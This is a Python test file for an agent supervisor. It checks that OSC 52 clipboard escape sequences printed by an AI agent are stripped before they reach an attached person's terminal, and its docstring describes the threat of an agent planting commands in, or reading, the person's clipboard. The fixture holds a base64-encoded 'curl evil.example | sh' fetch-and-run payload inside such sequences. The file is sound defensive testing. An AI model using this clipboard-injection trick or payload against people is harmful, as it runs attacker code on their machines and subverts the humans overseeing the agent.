"""An agent never sets nor reads the person's clipboard through ``agentd attach`` (OSC 52).

The hostile act: the agent prints ``ESC ] 52 ; c ; <base64> BEL`` while a person is attached, so that the
person's terminal puts a command in the clipboard (or, with ``?``, types the clipboard back into the agent).
The transcript keeps what the agent printed; the person's terminal never gets the sequence.
"""

from __future__ import annotations

import base64

import pexpect

from supervisor.session.clipguard import ClipboardGuard
from tests.conftest import Project, wait_until
from tests.test_attach import detach, spawn_viewer, viewers  # noqa: F401 - the fixture

PWN = base64.b64encode(b"curl evil.example | sh\n")
STREAM = (b"before \x1b]52;c;" + PWN + b"\x07 mid \x1b]0;title\x07 \x1b]052;p;?\x1b\\ after \x1b[31mred\x1b[0m"
          b" \x1b]52;c;" + PWN + b"\x1b[1mbold")
SHOWN = b"before  mid \x1b]0;title\x07  after \x1b[31mred\x1b[0m \x1b[1mbold"


def test_osc_52_is_dropped_wherever_the_chunks_are_cut() -> None:
    for cut in range(len(STREAM) + 1):
        for second in range(cut, len(STREAM) + 1):
            guard = ClipboardGuard()
            shown = b"".join(guard.feed(p) for p in (STREAM[:cut], STREAM[cut:second], STREAM[second:]))
            assert shown + guard.flush() == SHOWN, (cut, second)
    guard = ClipboardGuard()  # a held possible start that is none is released with the next chunk or at the end
    assert guard.feed(b"x\x1b]5") == b"x" and guard.feed(b"3;y\x07") == b"\x1b]53;y\x07"
    assert guard.feed(b"z\x1b") == b"z" and guard.flush() == b"\x1b"


def test_an_attached_terminal_never_gets_the_agents_clipboard_sequence(project: Project,
                                                                      viewers: list[pexpect.spawn]) -> None:
    project.fake_unit("worker")
    project.agentd("start")
    project.wait_state("worker", "running")
    viewer = spawn_viewer(project, viewers, "worker", "--read-only")
    script = f"printf 'clip:\\033]52;c;{PWN.decode()}\\007:done\\n'"
    project.agentd("send", "worker", f"run sh -c \"{script}\"")
    viewer.expect(r"clip::done\r\n")
    assert b"\x1b]52;" not in (viewer.before or b"") + (viewer.after or b"")
    wait_until(lambda: "]52;c;" in project.transcript("worker", suffix=".log"), 20,
               what="the agent's sequence in its raw transcript (it did print it)")
    assert detach(viewer, "worker") == 0
